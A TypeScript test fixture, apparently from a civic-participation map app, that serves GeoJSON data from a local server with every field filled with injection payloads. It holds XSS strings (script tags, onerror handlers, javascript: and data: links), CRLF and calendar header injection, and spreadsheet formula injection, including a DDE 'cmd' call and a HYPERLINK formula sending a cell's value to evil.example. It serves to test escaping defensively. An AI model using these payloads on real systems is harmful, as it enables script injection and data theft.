import { once } from 'node:events';
import { createServer } from 'node:http';
import type { Server } from 'node:http';

/** Anything below that runs sets this mark on the page. */
const RUN = 'window.__pwned=1';

/** What people write who want their text to be more than text: each breaks out of another kind of sink. */
export const HOSTILE_LINES: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `"><svg onload=${RUN}>`,
  `" autofocus tabindex=1 onfocus="${RUN}" onmouseover="${RUN}" x="`,
  `' onclick='${RUN}`,
  `</script><script>${RUN}</script>`,
  `</title></textarea></style><iframe srcdoc="<script>top.__pwned=1</script>">`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<a href="javascript:${RUN}">hier</a> [hier](javascript:${RUN})`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= 1 %>`,
  `\u2028${RUN}//\u2029 ]]> --> <!-- <![CDATA[ `,
  `\u202egnp.exe\u0000\u0007 <b>fett`,
  'Zeile\r\nATTACH:https://evil.example/\r\nBEGIN:VALARM\r\nDESCRIPTION:x\nBcc: evil@evil.example',
  '=HYPERLINK("https://evil.example/?"&A1,"hier")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x',
  '-2+3+cmd|x',
  '\t=1+1',
];

/** Addresses that must never be a link. */
export const HOSTILE_LINKS: readonly string[] = [
  `javascript:${RUN}`,
  `JaVa\tScRiPt:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  'https://name:s3cret-password@evil.example/',
  `https://evil.example/"onmouseover="${RUN}`,
  `https://evil.example/'><script>${RUN}</script>`,
  '//evil.example/\r\nX-Evil: 1',
];

const DAY = 86_400_000;
const inDays = (days: number): string => new Date(Date.now() + days * DAY).toISOString();

/** The list of an installation of ours that somebody took over: one procedure per line, which stands in all its fields. */
export function hostileList(): object {
  return {
    type: 'FeatureCollection',
    generator: 'Participation Navigator',
    features: HOSTILE_LINES.map((line, index) => procedure(line, index)),
  };
}

function procedure(line: string, index: number): object {
  const link = HOSTILE_LINKS[index % HOSTILE_LINKS.length] ?? '';
  const [lon, lat] = [9.9 + index / 100, 53.5 + index / 200];
  const square = [0, 1, 2, 3, 0].map((corner) => [
    lon + (corner % 3 === 0 ? 0 : 0.004),
    lat + (corner < 2 ? 0 : 0.003),
  ]);
  return {
    type: 'Feature',
    id: `${line} ${String(index)}`,
    geometry: index % 2 === 0 ? { type: 'Polygon', coordinates: [square] } : { type: 'Point', coordinates: [lon, lat] },
    properties: {
      [line]: line,
      title: `${line} ${String(index)}`,
      summary: line,
      description: `${line}\n\n${line}`,
      url: link,
      image: link,
      organiser: line,
      place: line,
      publisher: { name: line, territory: '02000000' },
      topics: [{ id: line, label: line }],
      topicLabels: [line],
      sourceStatus: line,
      geometryRole: index % 2 === 0 ? 'area' : 'location',
      contributions: 7,
      result: { state: 'published', url: link, publishedAt: '2026-03-01' },
      phases: [
        {
          kind: 'informal',
          title: line,
          start: '2026-01-01',
          end: inDays(90).slice(0, 10),
          startTime: null,
          endTime: null,
          timeZone: 'Europe/Berlin',
        },
      ],
      events: [{ title: line, start: inDays(20), end: inDays(20.1), place: line, url: link }],
      documents: [{ title: line, url: link, mediaType: line, date: null }],
      language: line,
      licence: line,
      provenance: { via: [link], feedUrl: link, feedName: line, licence: line, sourceId: line },
    },
  };
}

/** A plain list whose very field names are hostile, read with a map that names them. */
export function hostileFeatures(count: number): object {
  const features = HOSTILE_LINES.slice(0, count).map((line, index) => ({
    type: 'Feature',
    properties: {
      [HOSTILE_NAME]: `${line} Liste ${String(index)}`,
      nr: `${line}${String(index)}`,
      art: line,
      seite: '',
    },
    geometry: { type: 'Point', coordinates: [10.2, 53.6 + index / 100] },
  }));
  return { type: 'FeatureCollection', features };
}

/** A field called so, and the map that reads it. */
export const HOSTILE_NAME = `"><img src=x onerror=${RUN}>`;
export const HOSTILE_MAP = {
  title: HOSTILE_NAME,
  id: 'nr',
  topics: { fields: ['art'] },
  organiser: { path: 'art', then: [{ do: 'prefix', text: `<script>${RUN}</script>` }] },
};

/** A host that serves both, and lets a test shorten the plain list. */
export interface HostileHost {
  readonly url: string;
  shorten(count: number): void;
  stop(): void;
}

/** Starts it on a free port of this machine. */
export async function startHostileHost(): Promise<HostileHost> {
  let listed = HOSTILE_LINES.length;
  const server: Server = createServer((request, answer) => {
    const isPlain = request.url?.startsWith('/list') === true;
    answer
      .writeHead(200, { 'content-type': 'application/geo+json' })
      .end(JSON.stringify(isPlain ? hostileFeatures(listed) : hostileList()));
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('No free port');
  return {
    url: `http://127.0.0.1:${String(address.port)}`,
    shorten: (count) => (listed = count),
    stop: () => void server.close(),
  };
}
